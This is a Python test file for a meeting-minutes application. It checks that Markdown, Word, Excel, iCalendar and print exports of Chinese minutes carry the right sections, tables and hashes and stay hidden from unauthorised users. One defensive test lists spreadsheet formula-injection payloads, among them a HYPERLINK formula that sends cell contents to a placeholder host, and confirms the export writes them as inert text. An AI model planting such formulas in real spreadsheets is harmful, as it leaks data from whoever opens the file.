"""Every export opened back with its own library: Markdown, Word, Excel, iCalendar; and the print view."""
import hashlib
import io
from datetime import date, datetime, timezone
from urllib.parse import unquote

import pytest

from minutes.extensions import db
from minutes.records import drafting, render, signoff


@pytest.fixture
def distributed(recorded, clock):
    def build(before_draft=None, **kwargs):
        r = recorded(**kwargs)
        if before_draft:
            before_draft(r)
        clock(2026, 6, 18, 16, 0)
        drafting.draft_from_record(r.recorder, r.meeting)
        version = signoff.distribute(r.recorder, r.meeting)
        db.session.commit()
        return r, version
    return build


def download(client, version, fmt):
    response = client.get(f"/minutes/versions/{version.id}/export.{fmt}")
    assert response.status_code == 200, response.get_data(as_text=True)[:300]
    assert response.headers["X-Minutes-Content-SHA256"] == version.content_hash
    return response


def test_markdown_export_is_the_whole_document(distributed, client, login_as):
    r, v = distributed()
    login_as(r.late)
    response = download(client, v, "md")
    assert response.mimetype == "text/markdown"
    disposition = unquote(response.headers["Content-Disposition"])
    assert "解决客户投诉处理流程卡点-20260618-会议纪要-第1版.md" in disposition
    text = response.get_data().decode("utf-8")
    headings = ["# 解决客户投诉处理流程卡点 会议纪要", "## 一、会议基本信息", "## 二、会议目标与议程回顾",
                "## 三、各议题讨论要点", "## 四、决议事项汇总", "## 五、待办事项跟踪表"]
    found = [text.index(h) for h in headings]
    assert found == sorted(found)
    assert "| 序号 | 决议内容 | 负责人 | 配合部门 | 完成时限 |" in text
    assert "| 1 | 确定客户投诉处理总时效不超过72小时 | 客服部 赵敏 | 技术部 | 2026年6月30日 |" in text
    assert "| 2 | 优化投诉提报模板并上线 | 产品部 孙七 | 客服部、技术部 | 2026年6月30日 | 未开始 |" in text
    assert v.content_hash in text


def test_docx_export_has_the_sections_and_two_real_tables(distributed, client, login_as):
    from docx import Document

    r, v = distributed()
    login_as(r.late)
    doc = Document(io.BytesIO(download(client, v, "docx").get_data()))
    paragraphs = [p.text for p in doc.paragraphs]
    assert paragraphs[0] == "解决客户投诉处理流程卡点 会议纪要"
    headings = [p.text for p in doc.paragraphs if p.style.name.startswith("Heading")]
    assert headings[:3] == ["一、会议基本信息", "二、会议目标与议程回顾", "三、各议题讨论要点"]
    assert headings[-2:] == ["四、决议事项汇总", "五、待办事项跟踪表"]
    assert "议题一：投诉升级后的处理时效" in headings
    assert "会议主题：解决客户投诉处理流程卡点" in paragraphs
    assert "客服部（赵敏）：需缩短技术部响应时间至24小时内" in paragraphs
    assert any(p.startswith("1. 投诉升级后的处理时效") for p in paragraphs)
    assert len(doc.tables) == 2
    decisions, actions = doc.tables
    assert [c.text for c in decisions.rows[0].cells] == list(render.DECISION_COLUMNS)
    assert [c.text for c in decisions.rows[1].cells] == ["1", "确定客户投诉处理总时效不超过72小时", "客服部 赵敏", "技术部",
                                                         "2026年6月30日"]
    assert [c.text for c in actions.rows[0].cells] == list(render.ACTION_COLUMNS)
    assert [c.text for c in actions.rows[2].cells] == ["2", "优化投诉提报模板并上线", "产品部 孙七", "客服部、技术部",
                                                       "2026年6月30日", "未开始"]
    assert len(decisions.rows) == 3 and len(actions.rows) == 3
    east_asia = doc.styles["Normal"].element.rPr.rFonts.get(
        "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}eastAsia")
    assert east_asia == "宋体"


def test_xlsx_export_is_the_action_table(distributed, client, login_as):
    from openpyxl import load_workbook

    r, v = distributed()
    r.actions[1].status = r.actions[1].status.__class__("done")
    db.session.commit()
    login_as(r.member)
    book = load_workbook(io.BytesIO(download(client, v, "xlsx").get_data()))
    rows = list(book["待办事项跟踪表"].iter_rows(values_only=True))
    assert rows[0] == ("序号", "议题", "任务描述", "负责部门", "负责人", "配合部门", "截止时间", "纪要中的状态", "最新状态")
    assert rows[1] == (1, "投诉升级后的处理时效", "技术部增配1名投诉值班工程师", "技术部", "王五", None,
                       datetime(2026, 7, 10), "未开始", "未开始")
    assert rows[2] == (2, "投诉提报模板优化", "优化投诉提报模板并上线", "产品部", "孙七", "客服部、技术部",
                       datetime(2026, 6, 30), "未开始", "已完成")
    assert len(rows) == 3
    about = dict(book["说明"].iter_rows(values_only=True))
    assert about["内容哈希（SHA-256）"] == v.content_hash


def test_ics_export_has_the_meeting_and_each_action_deadline(distributed, client, login_as):
    from icalendar import Calendar

    r, v = distributed()
    login_as(r.cc)
    cal = Calendar.from_ical(download(client, v, "ics").get_data())
    events = {str(e["UID"]): e for e in cal.walk("VEVENT")}
    assert set(events) == {f"meeting-{r.meeting.id}@minutes.test", f"action-{r.actions[0].id}@minutes.test",
                           f"action-{r.actions[1].id}@minutes.test"}
    meeting = events[f"meeting-{r.meeting.id}@minutes.test"]
    assert str(meeting["SUMMARY"]) == "解决客户投诉处理流程卡点"
    assert meeting.decoded("DTSTART") == datetime(2026, 6, 18, 6, 0, tzinfo=timezone.utc)
    assert meeting.decoded("DTEND") == datetime(2026, 6, 18, 7, 30, tzinfo=timezone.utc)
    assert str(meeting["LOCATION"]) == "301会议室"
    first = events[f"action-{r.actions[0].id}@minutes.test"]
    assert first.decoded("DTSTART") == date(2026, 7, 10)
    assert str(first["SUMMARY"]) == "待办截止：技术部增配1名投诉值班工程师"
    assert "王五" in str(first["DESCRIPTION"])


def test_print_view_is_a_clean_a4_page(distributed, client, login_as):
    r, v = distributed()
    login_as(r.head)
    response = client.get(f"/minutes/versions/{v.id}/print")
    assert response.status_code == 200
    html = response.get_data(as_text=True)
    assert 'class="print-page"' in html and "records.css" in html and 'class="topbar"' not in html
    assert "正式会议纪要" in html and v.content_hash in html and "四、决议事项汇总" in html
    css = client.get("/static/records.css").get_data(as_text=True)
    assert "@page { size: A4" in css and "Noto Serif CJK SC" in css


def test_exports_are_for_people_who_can_see_the_meeting_only(distributed, client, login_as):
    r, v = distributed(confidential=True)
    login_as(r.outsider)
    for fmt in ("md", "docx", "xlsx", "ics"):
        assert client.get(f"/minutes/versions/{v.id}/export.{fmt}").status_code == 404
    assert client.get(f"/minutes/versions/{v.id}/export.exe").status_code == 404


def test_markdown_of_a_version_hashes_its_canonical_content(distributed):
    r, v = distributed()
    canonical = render.canonical_content(v.body, v.decisions, v.actions)
    assert hashlib.sha256(canonical.encode("utf-8")).hexdigest() == v.content_hash


FORMULAS = ['=HYPERLINK("http://x"&A1,"点击")', "\t=1+1", "+1+2", "-3+4", "@SUM(A1:A2)", "\r=2*3"]


def test_xlsx_export_writes_user_text_as_text_never_as_a_formula(distributed, client, login_as):
    from openpyxl import load_workbook

    def formulas_in_the_record(r):
        r.actions[0].text, r.actions[1].text = FORMULAS[0], FORMULAS[1]
        r.items[0].title, r.items[1].title = FORMULAS[2], FORMULAS[3]
        r.late.name, r.late.department.name = FORMULAS[4], FORMULAS[5]
        r.meeting.topic = FORMULAS[0]
        db.session.commit()

    r, v = distributed(before_draft=formulas_in_the_record)
    login_as(r.member)
    book = load_workbook(io.BytesIO(download(client, v, "xlsx").get_data()))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = {c.value for c in cells}
    assert set(FORMULAS) <= texts  # shown as typed, not with a quote in front
    assert all(c.quotePrefix for c in cells if isinstance(c.value, str) and c.value[:1] in "=+-@\t\r")


def test_xlsx_export_prints_landscape_one_page_wide_with_the_header_on_every_page(distributed, client, login_as):
    from openpyxl import load_workbook

    r, v = distributed()
    login_as(r.member)
    sheet = load_workbook(io.BytesIO(download(client, v, "xlsx").get_data()))["待办事项跟踪表"]
    setup = sheet.page_setup
    assert (setup.orientation, int(setup.paperSize)) == ("landscape", 9)  # 9: A4
    assert sheet.sheet_properties.pageSetUpPr.fitToPage is True
    assert (setup.fitToWidth, setup.fitToHeight) == (1, 0)
    assert sheet.print_title_rows == "$1:$1"
    widths = [sheet.column_dimensions[col].width for col in "ABCDEFGHI"]
    assert all(w >= 5 for w in widths) and sum(widths) <= 130  # near full size at one page wide
    assert widths[2] == max(widths)  # the task description gets the room
    assert all(cell.alignment.wrap_text for row in sheet.iter_rows() for cell in row)
